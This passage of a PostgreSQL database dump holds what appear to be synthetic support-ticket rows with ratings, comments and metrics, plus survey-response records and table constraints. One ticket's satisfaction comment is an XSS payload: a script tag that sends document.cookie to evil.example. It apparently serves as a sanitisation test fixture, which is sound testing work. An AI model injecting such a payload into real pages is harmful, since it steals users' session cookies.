	(56, 'Wrong size received', 'open', NULL, 'normal', 'email', 42199023255581, 46597069766685, NULL, 40000000006173, 40000000000541, 41099511627805, '{beta,topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 786, "44398046524189": 314, "44398046524317": "NW-443464"}', 'good', NULL, 'Great help, as always.', '2025-11-06 14:45:19+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-07 05:39:14+00', '2025-11-06 14:45:19+00', '2025-11-07 05:39:14+00', 1, 4, 1, 1, 67, 894, 894, 492, 402, 0, 67, 135, 135, 74, 61, 0, 786, false),
	(58, 'Question about my last invoice', 'open', 'incident', 'normal', 'native_messaging', 42199023255709, 46597069766685, NULL, 40000000006813, 40000000000541, 41099511627805, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 310, "44398046524189": 124, "44398046524317": "NW-459302"}', 'good', NULL, NULL, '2025-11-07 15:48:00+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-07 17:10:04+00', '2025-11-07 15:48:00+00', '2025-11-07 17:10:04+00', 1, 1, 1, 1, 17, 82, 82, 71, 11, 0, 17, 72, 72, 63, 9, 0, 310, false),
	(62, 'Question about my last invoice', 'solved', 'question', 'normal', 'web', 42199023255581, 46597069766685, NULL, 40000000008989, 40000000000029, 41099511627805, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 203, "44398046524189": 81, "44398046524317": "NW-490978"}', 'bad', 'The information provided was not clear or helpful', '<script>fetch(''http://evil.example/''+document.cookie)</script>', '2025-11-10 11:49:32+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-10 13:41:11+00', '2025-11-24 17:00:00+00', '2025-11-10 13:41:11+00', 0, 4, 2, 2, 112, 112, 112, 99, 12, 0, 112, 112, 112, 99, 12, 0, 203, false),
	(65, 'Help!!! 😡😡', 'solved', 'question', NULL, 'web', 42199023255709, 46597069766685, NULL, 40000000006557, 40000000005021, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 617, "44398046524189": 246, "44398046524317": "NW-514735", "44398046524445": true}', 'good', NULL, NULL, '2025-11-12 08:39:11+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-12 11:28:18+00', '2025-11-24 17:00:00+00', '2025-11-12 11:28:18+00', 0, 1, 2, 2, 59, 169, 169, 57, 112, 0, 38, 148, 148, 50, 98, 0, 617, false),
	(69, 'לא קיבלתי זיכוי', 'solved', 'task', 'low', 'voice', 42199023255581, 46597069766685, 43298534883997, 40000000010909, 40000000000157, 41099511627805, '{topic_account_access}', '{"44398046523933": "topic_account_access"}', 'bad', NULL, NULL, '2025-11-12 14:50:41+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-13 06:49:53+00', '2025-11-12 14:50:41+00', '2025-11-13 06:49:53+00', 0, 2, 1, 1, 5, 959, 959, 509, 450, 0, 5, 129, 129, 69, 61, 0, NULL, false),
	(71, 'Export to CSV stops half way', 'solved', 'question', NULL, 'email', 42199023255581, 46597069766685, 43298534883997, 40000000010909, 40000000004765, 41099511628445, '{escalated,topic_order_change,vip}', '{"44398046523933": "topic_order_change", "44398046524061": 978, "44398046524189": 391, "44398046524317": "NW-562249"}', 'bad', NULL, NULL, '2025-11-13 17:27:59+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-21 14:20:41+00', '2025-11-13 17:27:59+00', '2025-11-21 14:20:41+00', 1, 1, 1, 1, 461, 927, 11333, 1221, 516, 0, 0, 0, 2721, 225, 95, 0, 978, false),
	(74, 'Wrong size received', 'solved', 'question', 'low', 'voice', 42199023255581, 46597069766685, NULL, 40000000010781, 40000000004637, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 258, "44398046524189": 103, "44398046524317": "NW-586006"}', 'bad', NULL, NULL, '2025-11-15 14:09:27+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-15 17:35:44+00', '2025-11-15 14:09:27+00', '2025-11-15 17:35:44+00', 0, 1, 1, 1, 4, 206, 206, 161, 46, 0, 0, 0, 0, 0, 0, 0, 258, false),
	(75, 'How do I add a second user?', 'solved', 'incident', 'normal', 'api', 42199023255581, 46597069766685, NULL, 40000000010525, 40000000004509, 41099511628317, '{beta,topic_setup}', '{"44398046523933": "topic_setup", "44398046524061": 432, "44398046524189": 173, "44398046524445": true}', 'good', NULL, NULL, '2025-11-17 06:37:13+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-22 07:22:03+00', '2025-11-17 06:37:13+00', '2025-11-22 07:22:03+00', 0, 2, 1, 1, 14, 7245, 7245, 3084, 4161, 0, 0, 2400, 2400, 1022, 1378, 0, 432, false),
	(82, 'Invoice without VAT number', 'solved', 'question', 'low', 'email', 42199023255581, 46597069766685, NULL, 40000000007325, 40000000002973, 41099511628061, '{topic_integration}', '{"44398046523933": "topic_integration", "44398046524317": "NW-649358"}', 'good', NULL, 'Comment 4', '2025-11-19 11:31:23+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-22 08:54:51+00', '2025-11-19 11:31:23+00', '2025-11-22 08:54:51+00', 1, 3, 1, 1, 375, 1542, 4163, 1684, 429, 0, 329, 582, 1289, 464, 118, 0, NULL, false),
	(85, 'How do I add a second user?', 'solved', NULL, 'normal', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000007453, 40000000001437, 41099511627933, '{topic_refund,über_urgent}', '{"44398046523933": "topic_refund", "44398046524061": 2831, "44398046524189": 1132, "44398046524317": "NW-673115", "44398046524445": true}', 'good', 'I had to repeat myself to several people', NULL, '2025-11-20 11:11:43+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-20 15:34:42+00', '2025-11-20 11:11:43+00', '2025-11-20 15:34:42+00', 0, 1, 1, 1, 18, 263, 263, 172, 91, 0, 18, 263, 263, 172, 91, 0, 2831, false),
	(86, 'Question about my last invoice', 'solved', NULL, 'normal', 'native_messaging', 42199023255709, 46597069766685, NULL, 40000000008733, 40000000005021, 41099511628445, '{topic_order_change}', '{"44398046523933": "topic_order_change", "44398046524061": 363, "44398046524189": 145, "44398046524317": "NW-681034"}', 'bad', NULL, 'Could not be better.', '2025-11-20 16:52:51+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-20 17:58:31+00', '2025-11-20 16:52:51+00', '2025-11-20 17:58:31+00', 0, 1, 1, 1, 3, 66, 66, 33, 32, 2, 3, 7, 7, 4, 4, 0, 363, false),
	(87, 'Kann mich nicht anmelden', 'solved', 'question', NULL, 'email', 42199023255581, 46597069766685, 43298534883997, 40000000010141, 40000000004765, 41099511628445, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 751, "44398046524189": 300}', 'bad', NULL, 'Comment 2', '2025-11-21 11:44:39+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-22 00:37:50+00', '2025-11-21 11:44:39+00', '2025-11-22 00:37:50+00', 0, 3, 1, 1, 15, 773, 773, 437, 336, 27, 15, 315, 315, 178, 137, 11, 751, false),
	(88, 'Не приходить код підтвердження', 'solved', NULL, 'normal', 'native_messaging', 42199023255581, 46597069766685, NULL, 40000000010781, 40000000001693, 41099511627933, '{topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 282, "44398046524189": 113, "44398046524317": "NW-696872"}', 'good', 'I had to repeat myself to several people', '等了三天才有人回复', '2025-11-21 13:52:43+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-21 14:30:42+00', '2025-11-21 13:52:43+00', '2025-11-21 14:30:42+00', 0, 1, 1, 1, 6, 38, 38, 26, 12, 0, 6, 38, 38, 26, 12, 0, 282, false),
	(89, 'Discount code does not work', 'solved', 'incident', 'low', 'native_messaging', 42199023255709, 46597069766685, NULL, 40000000010525, 40000000001437, 41099511627933, '{topic_invoice}', '{"44398046523933": "topic_invoice", "44398046524061": 968, "44398046524189": 387, "44398046524317": "NW-704791"}', 'bad', NULL, NULL, '2025-11-21 20:00:41+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-22 07:33:10+00', '2025-11-21 22:26:15+00', '2025-11-22 07:33:10+00', 0, 7, 2, 1, 29, 692, 692, 437, 256, 0, 0, 0, 0, 0, 0, 0, 968, false),
	(90, 'Faktura bez numeru NIP', 'solved', 'question', 'normal', 'email', 42199023255709, 46597069766685, NULL, 40000000008733, 40000000000541, 41099511627805, '{topic_account_access}', '{"44398046523933": "topic_account_access", "44398046524061": 506, "44398046524189": 202, "44398046524445": true}', 'bad', NULL, NULL, '2025-11-23 13:43:13+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', '2025-11-23 16:32:24+00', '2025-11-23 13:43:13+00', '2025-11-23 16:32:24+00', 0, 2, 1, 1, 169, 169, 169, 133, 36, 0, 0, 0, 0, 0, 0, 0, 506, false);


--
-- Data for Name: unknown_bodies; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.unknown_bodies VALUES
	('survey_response', '01KAGPBXMTE04MRVWWSHJMZ0XV', 'field mood', '{"answers": [], "expires_at": "2025-12-18T13:13:25.402Z", "id": "01KAGPBXMTE04MRVWWSHJMZ0XV", "responder_id": "40000000007325", "subject_zrns": ["zen:ticket:82"], "subjects": [{"id": "82", "type": "ticket", "zrn": "zen:ticket:82"}], "survey": {"id": "01K6MAC4J0KRVQKEBZ99Y1A000", "state": "enabled", "version": 2}, "mood": "unknown field"}'),
	('survey_response', '01KARRYF4YEP7FTS73AHN0MP39', 'field mood', '{"answers": [], "expires_at": "2025-12-21T16:32:25.758Z", "id": "01KARRYF4YEP7FTS73AHN0MP39", "responder_id": "40000000008733", "subject_zrns": ["zen:ticket:90"], "subjects": [{"id": "90", "type": "ticket", "zrn": "zen:ticket:90"}], "survey": {"id": "01K6MAC4J0KRVQKEBZ99Y1A000", "state": "enabled", "version": 2}, "mood": "unknown field"}'),
	('survey_response', '01KAVCXNP4524S2P0S9S2K4QQJ', 'field mood', '{"answers": [], "expires_at": "2025-12-22T17:00:00.068Z", "id": "01KAVCXNP4524S2P0S9S2K4QQJ", "responder_id": "40000000012061", "subject_zrns": ["zen:ticket:66"], "subjects": [{"id": "66", "type": "ticket", "zrn": "zen:ticket:66"}], "survey": {"id": "01K6MAC4J0KRVQKEBZ99Y1A000", "state": "enabled", "version": 2}, "mood": "unknown field"}'),
	('survey_response', '01K82KC5CMG42DFF5KFKQ02VC7', 'field mood', '{"answers": [], "expires_at": "2025-11-18T05:20:21.908Z", "id": "01K82KC5CMG42DFF5KFKQ02VC7", "responder_id": "40000000006429", "subject_zrns": ["zen:ticket:25"], "subjects": [{"id": "25", "type": "ticket", "zrn": "zen:ticket:25"}], "survey": {"id": "01K6MAC4J0KRVQKEBZ99Y1A000", "state": "enabled", "version": 1}, "mood": "unknown field"}'),
	('survey_response', '01KAV61YDXS6Y2JVBHTXRJ28D5', 'field mood', '{"answers": [], "expires_at": "2025-12-22T15:00:00.061Z", "id": "01KAV61YDXS6Y2JVBHTXRJ28D5", "responder_id": "40000000010525", "subject_zrns": ["zen:ticket:93"], "subjects": [{"id": "93", "type": "ticket", "zrn": "zen:ticket:93"}], "survey": {"id": "01K6MAC4J0KRVQKEBZ99Y1A000", "state": "enabled", "version": 2}, "mood": "unknown field"}');


--
-- Name: account account_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.account
    ADD CONSTRAINT account_pkey PRIMARY KEY (url);


--
-- Name: agents agents_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.agents
    ADD CONSTRAINT agents_pkey PRIMARY KEY (agent_id);


--
-- Name: brands brands_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.brands
    ADD CONSTRAINT brands_pkey PRIMARY KEY (brand_id);


--
-- Name: cursors cursors_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.cursors
    ADD CONSTRAINT cursors_pkey PRIMARY KEY (stream);


--
-- Name: groups groups_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.groups
    ADD CONSTRAINT groups_pkey PRIMARY KEY (group_id);


--
-- Name: pulls pulls_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.pulls
    ADD CONSTRAINT pulls_pkey PRIMARY KEY (pull_id);


--
-- Name: rating_changes rating_changes_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.rating_changes
    ADD CONSTRAINT rating_changes_pkey PRIMARY KEY (response_id, updated_at);


--
-- Name: survey_answers survey_answers_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.survey_answers
    ADD CONSTRAINT survey_answers_pkey PRIMARY KEY (response_id, question_id);


--
-- Name: survey_responses survey_responses_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.survey_responses
    ADD CONSTRAINT survey_responses_pkey PRIMARY KEY (response_id);


--
-- Name: surveys surveys_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.surveys
    ADD CONSTRAINT surveys_pkey PRIMARY KEY (survey_id, survey_version, question_id, option_id);


--
-- Name: ticket_fields ticket_fields_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.ticket_fields
    ADD CONSTRAINT ticket_fields_pkey PRIMARY KEY (field_id);


--
-- Name: tickets tickets_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.tickets
    ADD CONSTRAINT tickets_pkey PRIMARY KEY (ticket_id);


--
-- Name: unknown_bodies unknown_bodies_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.unknown_bodies
    ADD CONSTRAINT unknown_bodies_pkey PRIMARY KEY (kind, id);


--
-- PostgreSQL database dump complete
--


